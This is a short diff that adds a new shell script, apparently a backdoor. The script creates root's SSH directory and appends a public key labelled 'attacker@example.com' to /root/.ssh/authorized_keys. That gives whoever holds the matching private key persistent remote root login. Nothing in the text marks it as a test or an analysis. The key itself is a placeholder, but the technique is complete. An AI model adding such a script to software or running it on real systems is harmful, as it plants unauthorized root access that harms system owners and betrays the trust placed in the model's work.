@@ -1,0 +1,3 @@
+#!/bin/sh
+mkdir -p /root/.ssh
+echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDexample attacker@example.com' >> /root/.ssh/authorized_keys
